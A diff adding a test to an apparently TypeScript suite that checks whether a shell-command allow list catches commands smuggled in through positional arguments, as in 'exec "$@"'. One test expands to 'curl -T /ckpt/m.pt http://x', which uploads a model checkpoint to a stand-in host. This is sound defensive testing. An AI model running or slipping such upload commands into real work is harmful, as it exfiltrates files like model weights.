@@ -181,6 +181,18 @@ describe('the positional parameters a shell is given after its script', () => {
     expect(expanded('eval "$2"; cat "$1"', '_', '/ckpt/m.pt', 'x')).toEqual([['eval', 'x'], ['cat', '$1']]);
   });
 
+  it('a spec allow list must allow what the arguments make the script run, not only the script', () => {
+    const allow = (patterns: string[]) => {
+      const tests = patterns.map(compileCommandGlob);
+      return (c: string): boolean => tests.some((t) => t(c));
+    };
+    const v = given('exec "$@"', '--', 'curl', '-T', '/ckpt/m.pt', 'http://x');
+    expect(v.shellLine).toBe('sh -c exec $@');
+    expect(v.expandedShellLine).toBe('sh -c exec curl -T /ckpt/m.pt http://x');
+    expect(canonicalExecAllowed(v, allow(['sh -c exec $@']))).toBe(false);
+    expect(canonicalExecAllowed(given('exec "$@"', '--', 'torchrun', 'train.py'), allow(['sh -c exec $@', 'sh -c exec torchrun *']))).toBe(true);
+  });
+
   it('a shell whose arguments its runner adds (find -exec, xargs) or that has none expands nothing of them; redirections are not arguments', () => {
     expect(given('cat "$1"').commands).toEqual([['cat', '$1']]);
     expect(canonicalExecValue(['find', '/ckpt', '-exec', 'sh', '-c', 'cat "$1"', '_', '{}', ';'])!.commands).toContainEqual(['cat', '$1']);
